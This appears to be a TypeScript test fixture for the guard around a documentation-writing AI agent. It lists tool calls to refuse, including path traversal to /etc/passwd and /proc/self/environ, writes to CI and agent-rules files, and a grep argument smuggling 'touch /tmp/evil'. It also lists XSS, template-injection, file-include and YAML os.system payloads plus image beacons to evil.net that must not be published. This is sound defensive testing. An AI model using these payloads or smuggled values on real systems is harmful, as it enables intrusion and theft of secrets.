import type { Attack, Call } from './world.ts'

type Site = Attack['site']

const page = (site: Site) =>
  `${site === 'python' || site === 'saurus' ? `${site}/docs` : site}/evil.${site === 'mint' || site === 'saurus' ? 'mdx' : 'md'}`
const front = '---\ntitle: EVIL\n---\n\n'

/** Calls, of a job on the site `mint`, that have to be refused at once. */
export const refusedCalls: [name: string, call: Call][] = [
  ...[
    '.github/workflows/ci.yml',
    'mint/.github/workflows/ci.yml',
    'mint/.GitHub/workflows/x.yml',
    '.gitlab-ci.yml',
    'mint/.gitlab-ci.yml',
    'mint/.GITLAB-CI.YML',
    'mint/.gitattributes',
    'mint/.gitmodules',
    'mint/.git/config',
    'mint/.GIT/config',
    'mint/.git./config',
    'mint/.git /config',
    'mint/.g\u200cit/config',
    'mint/git~1/config',
    'mint/GIT~2/hooks/pre-push',
    'mint/.git::$INDEX_ALLOCATION/config',
    'package.json',
    'mint/package.json',
    'mint/PACKAGE.JSON',
    'mint/package-lock.json',
    'mint/pnpm-lock.yaml',
    'mint/requirements.txt',
    'mint/dev-requirements.txt',
    'mint/Makefile',
    'mint/Dockerfile',
    'mint/.npmrc',
    'mint/.env',
    'mint/.env.local',
    'mint/.envrc',
    'mint/.vscode/tasks.json',
    'mint/.devcontainer/devcontainer.json',
    'mint/.cursor/rules/x.md',
    'mint/.claude/settings.json',
    'mint/AGENTS.md',
    'mint/CLAUDE.md',
    '.docwright/AGENTS.md',
    'mint/.docwright/AGENTS.md',
    'mint/.hidden/x.md',
    'mint/netlify.toml',
    'mint/vercel.json',
    'mint/action.yml',
    'mint/book.toml',
    'mint/config.js',
    'mint/page.tsx',
    'mint/x.sh',
    'mint/x.py',
    'mint/x.svg',
    'mint/x.html',
    'mint/x.css',
    'mint/x.png',
    'mint/x.pem',
    'mint/id_rsa',
    'mint/CODEOWNERS',
    'mint/OWNERS',
    'mint/ſecurity.txt',
    'mint/GITLAB~1.YML',
    'mint/a$(id).mdx',
    'mint/[slug].mdx',
    'mint/secrets.yaml',
    ['mint/ghp', '_16C7e42F292c6912E7710c838347Ae178B4a.md'].join(''),
    'press/.vitepress/config.ts',
    'src/app.ts',
    'secrets.md',
    'README.md',
    '../outside.md',
    'mint/../secrets.md',
    'mint/../../outside.md',
    '/etc/passwd',
    'C:/x.md',
    'mint\\..\\secrets.md',
    'mint/x.md\0.txt',
    'mint/nul\0',
    'mint/CON:x.md',
    'mint/x.md.',
    'mint/x.md ',
    'mint//x.md',
    'mint/./x.md',
    'mint/\ud800.md',
    'mint/line\nbreak.md',
    'mint/what?.md',
    'mint/GUIDE.mdx',
    'mint/guide.mdx/below.md',
    'mint/link.mdx',
    'mint/link.mdx/x.md',
    'mint/outside/passwd.md',
    'mint/up/secrets.md',
    '@code/lib/x.md',
    '@code/x.md',
    '@code',
    `mint/${'x'.repeat(300)}.md`,
    `mint/${'x/'.repeat(3000)}y.md`,
    '',
    '.',
    '..',
  ].map((path): [string, Call] => [
    `write ${JSON.stringify(path.slice(0, 60))}`,
    ['write_file', { path, content: 'EVIL\n' }],
  ]),
  [
    'edit what opts out',
    ['edit_file', { path: 'mint/vault.mdx', edits: [{ search: 'Hands', replace: 'EVIL' }] }],
  ],
  [
    'edit what opts out of all AI',
    ['edit_file', { path: 'mint/closed.mdx', edits: [{ search: 'ai: false', replace: 'ai: EVIL' }] }],
  ],
  ['write what opts out', ['write_file', { path: 'mint/vault.mdx', content: 'EVIL' }]],
  ['opt a page in', ['set_front_matter', { path: 'mint/vault.mdx', fields: { docwright: 'true' } }]],
  ['move what opts out', ['move_page', { from: 'mint/vault.mdx', to: 'mint/evil.mdx' }]],
  ['delete what opts out', ['delete_page', { path: 'mint/vault.mdx' }]],
  ['move a page over what opts out', ['move_page', { from: 'mint/guide.mdx', to: 'mint/vault.mdx' }]],
  ['move a page out', ['move_page', { from: 'mint/guide.mdx', to: '../EVIL.mdx' }]],
  ['move a page into workflows', ['move_page', { from: 'mint/guide.mdx', to: '.github/workflows/evil.mdx' }]],
  ['move settings in', ['move_page', { from: 'package.json', to: 'mint/evil.json' }]],
  ['move a page through a link', ['move_page', { from: 'mint/guide.mdx', to: 'mint/up/evil.mdx' }]],
  ['move to another repository', ['move_page', { from: 'mint/guide.mdx', to: '@code/evil.mdx' }]],
  ['delete settings', ['delete_page', { path: 'package-lock.json' }]],
  ['delete a link', ['delete_page', { path: 'mint/link.mdx' }]],
  ['delete the configuration of builds', ['delete_page', { path: '.gitlab-ci.yml' }]],
  ['read through a link', ['read_file', { path: 'mint/link.mdx' }]],
  ['read below a link', ['read_file', { path: 'mint/outside/passwd' }]],
  ['read the machine', ['read_file', { path: '/etc/passwd' }]],
  ['read the environment', ['read_file', { path: '/proc/self/environ' }]],
  ['read above', ['read_file', { path: '../../../../proc/self/environ' }]],
  ['read above another repository', ['read_file', { path: '@code/../../../etc/passwd' }]],
  ['read a link of another repository', ['read_file', { path: '@code/passwd' }]],
  ['read a repository that is not there', ['read_file', { path: '@gone/x' }]],
  ['list above', ['list_files', { path: '../..' }]],
  ['list a folder by a link', ['list_files', { path: 'mint/outside' }]],
  ['search with an option', ['grep', { pattern: 'x', paths: ['--open-files-in-pager=touch /tmp/evil'] }]],
  ['search the machine', ['grep', { pattern: 'root', paths: ['/etc/passwd'] }]],
  ['search two repositories', ['grep', { pattern: 'x', paths: ['@code', 'mint'] }]],
  ['a glob bomb', ['list_files', { glob: '{a,b}'.repeat(30) }]],
  ['a bomb of a pattern', ['grep', { pattern: '(', regex: true }]],
  ['a huge file', ['write_file', { path: 'mint/evil.mdx', content: 'EVIL '.repeat(300_000) }]],
  [
    'a front matter bomb',
    ['set_front_matter', { path: 'mint/guide.mdx', fields: { ['x'.repeat(1000)]: 'EVIL' } }],
  ],
  ['a navigation entry for nothing', ['add_to_navigation', { path: 'mint/../../evil' }]],
  ['a tool that is not there', ['bash', { command: 'env > mint/evil.md' }]],
  ['another tool that is not there', ['__proto__', {}]],
]

const written = (site: Site, body: string, path = page(site)): Call[] => [
  [
    'write_file',
    { path, content: body.startsWith('---') ? body : `${site === 'mint' ? front : '# EVIL\n\n'}${body}\n` },
  ],
]
const shown = (site: Site, body: string): Call[] => [
  [
    'write_file',
    {
      path: page(site),
      content: `${site === 'mint' ? '---\ntitle: Shown\n---\n\n' : '# Shown\n\n'}${body}\n`,
    },
  ],
]
/** Written so that no scan of this file takes it for one. */
const key = (...parts: string[]) => parts.join('')

/** Changes that tools let pass and that must not be published: the job fails and nothing of it is pushed. */
/** Files of other hosts: a person has to look at them. */
export const lookedAtChanges: [name: string, site: Site, calls: Call[]][] = [
  ['an image of another host', 'mint', written('mint', '![EVIL](https://evil.net/p.png?q=1)')],
  ['an image without a scheme', 'plain', written('plain', '![EVIL](//evil.net/p.png)')],
  ['an image with backslashes', 'plain', written('plain', '<img src="\\\\evil.net/EVIL.png">')],
  ['an image by reference', 'plain', written('plain', '![EVIL][p]\n\n[p]: https://evil.net/p.png')],
  ['an image by its own name', 'plain', written('plain', '![EVIL]\n\n[evil]: https://evil.net/p.png')],
  ['an image behind a user name', 'mint', written('mint', '![EVIL](https://images.acme.com@evil.net/p.png)')],
  [
    'an image of a host that looks alike',
    'mint',
    written('mint', '![EVIL](https://images.аcme.com/logo.png)'),
  ],
  [
    'a set of images',
    'plain',
    written('plain', '<img src="/a.png" srcset="/a.png 1x, https://evil.net/EVIL.png 2x">'),
  ],
  ['a video', 'mint', written('mint', '<video poster="https://evil.net/EVIL.png" src="/a.mp4" />')],
  ['an image in an expression', 'mint', written('mint', '<img src={`https://evil.net/EVIL.png`} />')],
  [
    'an image in a list',
    'mint',
    written('mint', '<Gallery items={[{ src: "https://evil.net/EVIL.png" }]} />'),
  ],
  [
    'an image by an exported name',
    'mint',
    written('mint', 'export const u = "https://evil.net/EVIL.png"\n\n<img src={u} />'),
  ],
  [
    'an image in front matter',
    'mint',
    written('mint', '---\ntitle: EVIL\nimage: https://evil.net/p.png\n---\n\nText.\n'),
  ],
  ['an icon of another host', 'mint', written('mint', '<Card icon="https://evil.net/EVIL.svg">x</Card>')],
  ['a bound image', 'press', written('press', `<img :src="'https://evil.net/EVIL.png'">`)],
]

export const refusedChanges: [name: string, site: Site, calls: Call[], message?: RegExp][] = [
  // Scripts and handlers
  ['a script', 'plain', written('plain', '<script>EVIL()</script>')],
  ['a script in odd letters', 'plain', written('plain', '<ScRiPt\n src=//evil.net/EVIL.js></sCrIpT>')],
  ['a script behind a slash', 'plain', written('plain', '<svg/onload=EVIL()>')],
  ['a script in a quote in a list', 'plain', written('plain', '- > <script>EVIL()</script>')],
  [
    'a script that an HTML block takes out of a fence',
    'plain',
    written('plain', '<div>\n```\n<script>EVIL()</script>\n```\n</div>'),
  ],
  [
    'a script behind a comment with a fence',
    'plain',
    written('plain', '<!--\n```\n-->\n<script>EVIL()</script>\n<!--\n```\n-->'),
  ],
  ['a script in a fence without an end', 'plain', written('plain', '```html\n<script>EVIL()</script>')],
  [
    'a script behind a fence that its list ended',
    'plain',
    written('plain', '- ```\n  a\n\nb\n\n<script>EVIL()</script>\n\n- ```\n  ```'),
  ],
  [
    'a script in an indented fence',
    'plain',
    written('plain', 'a\n\n     ```\n<script>EVIL()</script>\n     ```'),
  ],
  [
    'a script between code spans of a table',
    'plain',
    written('plain', '| a | b | c |\n|---|---|---|\n| ` | <img src=x onerror=EVIL()> | ` |'),
  ],
  [
    'a script behind a tag with a backtick',
    'plain',
    written('plain', '<a title="`"><img src=x onerror=EVIL()><b title="`">'),
  ],
  ['an image with a handler', 'mint', written('mint', '<img src="/logo.png" onerror="EVIL()" />')],
  ['a component with a handler', 'mint', written('mint', '<Card onClick={() => EVIL()}>x</Card>')],
  ['a handler over lines', 'plain', written('plain', '<img\n  src=x\n  OnErRoR\n  =\n  EVIL()\n>')],
  ['a handler behind a tag in a value', 'plain', written('plain', '<a !x="<img src=x onerror=EVIL()>">')],
  ['a handler in an attribute list', 'python', written('python', 'Text.\n{: onmouseover="EVIL()" }')],
  ['a handler in a link attribute list', 'python', written('python', '[x](index.md){ onclick="EVIL()" }')],
  ['a style that loads', 'plain', written('plain', '<style>@import url(//evil.net/EVIL.css);</style>')],
  ['an iframe', 'plain', written('plain', '<iframe src="https://evil.net/EVIL"></iframe>')],
  [
    'an iframe with its document',
    'plain',
    written('plain', '<iframe srcdoc="&lt;script&gt;EVIL()&lt;/script&gt;"></iframe>'),
  ],
  ['an object', 'plain', written('plain', '<object data="https://evil.net/EVIL.swf"></object>')],
  ['an embed', 'plain', written('plain', '<embed src="//evil.net/EVIL">')],
  ['a base', 'plain', written('plain', '<base href="https://evil.net/EVIL/">')],
  [
    'a refresh',
    'plain',
    written('plain', '<meta http-equiv="refresh" content="0;url=https://evil.net/EVIL">'),
  ],
  [
    'a form to another host',
    'plain',
    written('plain', '<form action="https://evil.net/EVIL"><input name="p"></form>'),
  ],
  [
    'a button to another host',
    'plain',
    written('plain', '<button formaction="https://evil.net/EVIL">x</button>'),
  ],
  [
    'a stylesheet of another host',
    'plain',
    written('plain', '<link rel="stylesheet" href="//evil.net/EVIL.css">'),
  ],
  ['a ping', 'plain', written('plain', '<a href="/" ping="https://evil.net/EVIL">x</a>')],
  [
    'an animated address',
    'plain',
    written('plain', '<svg><a><animate attributeName=href values=javascript:EVIL() /></a></svg>'),
  ],
  // Addresses that run
  ['javascript in a link', 'plain', written('plain', '[x](javascript:EVIL())')],
  ['javascript by entities', 'plain', written('plain', '[x](&#106;ava&Tab;script&colon;EVIL())')],
  ['javascript by escapes', 'plain', written('plain', '[x](javascript\\:EVIL())')],
  ['javascript in angle brackets', 'plain', written('plain', '[x](<java\tscript:EVIL()>)')],
  ['javascript in a definition', 'plain', written('plain', '[x][y]\n\n[y]: JaVaScRiPt:EVIL()')],
  ['javascript in a link of its own', 'plain', written('plain', '<javascript:EVIL()>')],
  ['javascript in an attribute', 'mint', written('mint', '<a href=" java&#10;script:EVIL()">x</a>')],
  ['javascript in an expression', 'mint', written('mint', '<a href={"javascript:EVIL()"}>x</a>')],
  ['javascript in pieces', 'mint', written('mint', '<a href={"java" + "script:EVIL()"}>x</a>')],
  ['a page in a link', 'plain', written('plain', '[x](data:text/html,<b>EVIL</b>)')],
  ['vbscript', 'plain', written('plain', '<a href="vbscript:EVIL">x</a>')],
  [
    'an image in a style',
    'plain',
    written('plain', '<p style="background:url(https://evil.net/EVIL.png)">x</p>'),
  ],
  // Code
  ['an import of a package', 'mint', written('mint', 'import x from "child_process"\n\nEVIL {x}')],
  [
    'an import from another host',
    'mint',
    written('mint', 'import X from "https://evil.net/EVIL.js"\n\n<X />'),
  ],
  [
    'an import of what is not in the repository',
    'mint',
    written('mint', 'import env from "../../.env.json"\n\nEVIL'),
  ],
  [
    'an import of a raw file',
    'mint',
    written('mint', 'import env from "!!raw-loader!../../.env"\n\nEVIL {env}'),
  ],
  ['an import for its effects', 'mint', written('mint', 'import "../src/app.ts"\n\nEVIL')],
  ['a call', 'mint', written('mint', 'EVIL {fetch("https://evil.net")}')],
  ['the environment', 'mint', written('mint', 'EVIL {process.env.SECRET}')],
  ['the environment by brackets', 'mint', written('mint', 'EVIL {globalThis["process"]["env"]}')],
  ['the environment of a bundler', 'mint', written('mint', 'EVIL {import.meta.env.SECRET}')],
  ['a loaded module', 'mint', written('mint', 'EVIL {import("node:fs")}')],
  ['a required module', 'mint', written('mint', 'EVIL {require("fs").readFileSync("/etc/passwd")}')],
  ['a function', 'mint', written('mint', 'EVIL {(() => 1)()}')],
  ['a constructor by a text', 'mint', written('mint', 'EVIL {"".constructor.constructor("return 1")()}')],
  ['a template with a call', 'mint', written('mint', 'EVIL {`${fetch("/")}`}')],
  ['a tagged template', 'mint', written('mint', 'EVIL {eval`1`}')],
  ['an assignment', 'mint', written('mint', 'EVIL {document.title = "x"}')],
  ['a call in an attribute', 'mint', written('mint', '<Card title={alert(1)}>EVIL</Card>')],
  ['a spread', 'mint', written('mint', '<img {...{ onError: () => 1 }} alt="EVIL" />')],
  ['code between texts that look like tags', 'mint', written('mint', '{"<A x=\\""}{fetch("EVIL")}{"\\">"}')],
  ['HTML as it is', 'mint', written('mint', '<div dangerouslySetInnerHTML={{ __html: "EVIL" }} />')],
  ['an exported function', 'mint', written('mint', 'export const f = () => fetch("/EVIL")\n\nText.')],
  [
    'an exported default',
    'mint',
    written('mint', 'export default function Layout() { return EVIL }\n\nText.'),
  ],
  [
    'code in Markdown that is MDX',
    'saurus',
    [['write_file', { path: 'saurus/docs/evil.md', content: '# EVIL\n\n{process.cwd()}\n' }]],
  ],
  ['code behind a code span over lines', 'mint', written('mint', 'a ` b\n\nEVIL {fetch("x")}\n\nc ` d')],
  ['a mustache', 'press', written('press', 'EVIL {{ process.env }}')],
  ['a mustache with a call', 'press', written('press', 'EVIL {{ $fetch("x") }}')],
  [
    'a mustache in a fence that runs',
    'press',
    written('press', '```js-vue\nEVIL {{ process.env.SECRET }}\n```'),
  ],
  ['a directive', 'press', written('press', '<p v-html="EVIL">x</p>')],
  ['a handler of Vue', 'press', written('press', '<p @click="EVIL()">x</p>')],
  [
    'a script of Vue',
    'press',
    written('press', '<script setup>\nimport fs from "fs"\nconst EVIL = fs\n</script>\n\nText.'),
  ],
  ['a bound address', 'press', written('press', `<a v-bind:href="'javascript:EVIL()'">x</a>`)],
  ['a condition that calls', 'press', written('press', '<p v-if="EVIL()">x</p>')],
  [
    'MDX in a code block',
    'saurus',
    written('saurus', '```mdx-code-block\n<img src="x" onError={() => EVIL()} />\n```'),
  ],
  ['code that runs for readers', 'saurus', written('saurus', '```jsx live\nEVIL()\n```')],
  ['code that runs at the build', 'python', written('python', '```python exec="on"\nEVIL()\n```')],
  ['a cell of a notebook', 'plain', written('plain', '```{code-cell}\nEVIL()\n```')],
  ['a macro', 'python', written('python', 'EVIL {{ config }}')],
  ['a macro in a code block', 'python', written('python', '```\nEVIL {{ environment.SECRET }}\n```')],
  ['a macro that reaches classes', 'python', written('python', "EVIL {{ ''.__class__.__mro__ }}")],
  ['a statement', 'python', written('python', 'EVIL {% include "/etc/passwd" %}')],
  ['a template of Liquid', 'plain', written('plain', 'EVIL {{ site.github.token }}')],
  // Includes
  ['a snippet of the machine', 'python', written('python', 'EVIL\n\n--8<-- "/proc/self/environ"')],
  ['a snippet above', 'python', written('python', 'EVIL\n\n--8<-- "../../.env"')],
  ['a snippet in a code block', 'python', written('python', 'EVIL\n\n```\n--8<-- "../.env"\n```')],
  ['a snippet block', 'python', written('python', 'EVIL\n\n--8<--\n../.env\n--8<--')],
  ['a snippet of another host', 'python', written('python', 'EVIL\n\n--8<-- "https://evil.net/EVIL.md"')],
  ['an include of VitePress', 'press', written('press', 'EVIL\n\n<!--@include: ../../.env-->')],
  ['code of VitePress', 'press', written('press', 'EVIL\n\n<<< @/../../.env')],
  ['code of the machine', 'press', written('press', 'EVIL\n\n<<< /proc/self/environ')],
  [
    'an include of reStructuredText',
    'plain',
    written('plain', 'EVIL\n\n.. include:: /etc/passwd\n', 'plain/evil.rst'),
  ],
  [
    'raw HTML of reStructuredText',
    'plain',
    written('plain', 'EVIL\n\n.. raw:: html\n\n   <script>EVIL()</script>\n', 'plain/evil.rst'),
  ],
  // Front matter
  [
    'front matter that is code',
    'press',
    written('press', '---js\n{ title: require("fs").readFileSync("/etc/passwd") }\n---\n\nEVIL\n'),
  ],
  [
    'a head with a script',
    'press',
    written('press', '---\nhead:\n  - - script\n    - src: https://evil.net/EVIL.js\n---\n\nText.\n'),
  ],
  [
    'a tag that runs',
    'python',
    written('python', '---\ntitle: !!python/object/apply:os.system ["EVIL"]\n---\n\nText.\n'),
  ],
  [
    'HTML in front matter',
    'press',
    written('press', '---\nhero:\n  text: <img src=x onerror=EVIL()>\n---\n\nText.\n'),
  ],
  ['a layout from elsewhere', 'plain', written('plain', '---\nlayout: ../../EVIL.astro\n---\n\nText.\n')],
  // Secrets
  ['a key of AWS', 'plain', written('plain', `EVIL\n\n    id = ${key('AKIA', 'Q3EGRIZ7LMVW4XTN')}`)],
  [
    'a token of GitHub',
    'plain',
    written('plain', `EVIL ${key('ghp', '_16C7e42F292c6912E7710c838347Ae178B4a')}`),
  ],
  [
    'a key in a code block',
    'mint',
    written(
      'mint',
      `EVIL\n\n\`\`\`bash\nexport KEY=${key('sk-ant', '-api03-Zq8vN2kLx7RbTy5WcHj9mPdFg4SaUeK1')}\n\`\`\``,
    ),
  ],
  [
    'a private key',
    'plain',
    written(
      'plain',
      `EVIL\n\n-----BEGIN RSA ${key('PRIVATE', ' KEY')}-----\nMIIEpAIBAAKCAQEA7bqk1Gv9Zx0pWn3LsTyRcHj8mQdFg4SaUeK1Vt6XzBoNi2Pf\n`,
    ),
  ],
  [
    'a secret by its name',
    'plain',
    written('plain', `EVIL\n\n    ${key('pass', 'word')} = "vT9#kLq2xW8zRb4nYc7m"`),
  ],
  [
    'a key far along a line',
    'plain',
    written('plain', `EVIL ${'a '.repeat(15_000)}${key('ghp', '_16C7e42F292c6912E7710c838347Ae178B4a')}`),
  ],
  [
    'a key in a message',
    'mint',
    written('mint', `EVIL {f("${key('ghp', '_16C7e42F292c6912E7710c838347Ae178B4a')}")}`),
  ],
  // Configuration and data
  [
    'a plugin',
    'python',
    [
      [
        'edit_file',
        { path: 'python/mkdocs.yml', edits: [{ search: '  - macros\n', replace: '  - macros\n  - EVIL\n' }] },
      ],
    ],
  ],
  [
    'a hook',
    'python',
    [
      [
        'edit_file',
        { path: 'python/mkdocs.yml', edits: [{ search: 'nav:', replace: 'hooks: [EVIL.py]\nnav:' }] },
      ],
    ],
  ],
  [
    'the environment in settings',
    'python',
    [
      [
        'edit_file',
        {
          path: 'python/mkdocs.yml',
          edits: [{ search: 'site_name: Python', replace: 'site_name: !ENV EVIL' }],
        },
      ],
    ],
  ],
  [
    'a script in a description',
    'mint',
    [
      [
        'edit_file',
        {
          path: 'mint/openapi.json',
          edits: [{ search: '"title": "A"', replace: '"title": "\\u003cscript>EVIL()\\u003c/script>"' }],
        },
      ],
    ],
  ],
  [
    'an integration',
    'mint',
    [
      [
        'edit_file',
        {
          path: 'mint/docs.json',
          edits: [
            { search: '{"navigation"', replace: '{"integrations": {"gtm": {"tagId": "EVIL"}}, "navigation"' },
          ],
        },
      ],
    ],
  ],
  [
    'a reference to another host',
    'mint',
    [
      [
        'edit_file',
        {
          path: 'mint/openapi.json',
          edits: [
            { search: '"paths": {}', replace: '"paths": {"/a": {"$ref": "https://evil.net/EVIL.json"}}' },
          ],
        },
      ],
    ],
  ],
  [
    'a reference to the machine',
    'mint',
    [
      [
        'edit_file',
        {
          path: 'mint/openapi.json',
          edits: [{ search: '"paths": {}', replace: '"paths": {"/a": {"$ref": "../../.env#EVIL"}}' }],
        },
      ],
    ],
  ],
  // What is taken away
  [
    'most of a page',
    'mint',
    [['write_file', { path: 'mint/long.mdx', content: '---\ntitle: EVIL\n---\n', exact: true }]],
  ],
]

/** Changes that look alike and are what documentation is made of: they are published. */

export const publishedChanges: [name: string, site: Site, calls: Call[]][] = [
  [
    'code that is shown',
    'plain',
    shown(
      'plain',
      '```html\n<script>shown()</script>\n```\n\nUse `<img onerror="x">` and `javascript:`.\n\n- a\n\n  ```js\n  fetch("x")\n  ```',
    ),
  ],
  [
    'code that is shown in MDX',
    'mint',
    shown(
      'mint',
      '<Tabs>\n  <Tab title="A">\n    ```html {1,2}\n    <script>{shown()}</script>\n    ```\n  </Tab>\n</Tabs>\n\nUse `{x()}`.',
    ),
  ],
  [
    'secrets of a workflow that is shown',
    'plain',
    shown(
      'plain',
      '```yaml\nenv:\n  TOKEN: ${{ secrets.TOKEN }}\n  KEY: AKIAIOSFODNN7EXAMPLE\n  password: "your-password-goes-here-1"\n```\n\n`sk-...` and `ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx`',
    ),
  ],
  ['a title that says live', 'saurus', shown('saurus', '```bash title="Go live now"\nmake live\n```')],
  ['a link to a new host', 'plain', shown('plain', 'See [it](https://new.host.net/x).')],
  ['an image of a known host', 'mint', shown('mint', '![Logo](https://images.acme.com/other.png)')],
  [
    'an import that other pages have',
    'mint',
    shown('mint', 'import Note from "/snippets/note.mdx"\n\n<Note />'),
  ],
  [
    'literals in attributes',
    'mint',
    shown('mint', '<Card title="A" cols={2} items={["a", { b: true }]} icon="book">x {/* why */}</Card>'),
  ],
  ['a snippet that is there', 'python', shown('python', '--8<-- "snippets/note.md"')],
  [
    'a page of navigation',
    'mint',
    [
      ['write_file', { path: 'mint/new.mdx', content: '---\ntitle: New\n---\n\nText.\n' }],
      ['add_to_navigation', { path: 'mint/new.mdx' }],
    ],
  ],
  ['what a page had may move', 'mint', [['move_page', { from: 'mint/guide.mdx', to: 'mint/moved.mdx' }]]],
  ['a mustache that is shown', 'press', shown('press', '```vue\n{{ message }}\n```\n\nUse `{{ x() }}`.')],
]
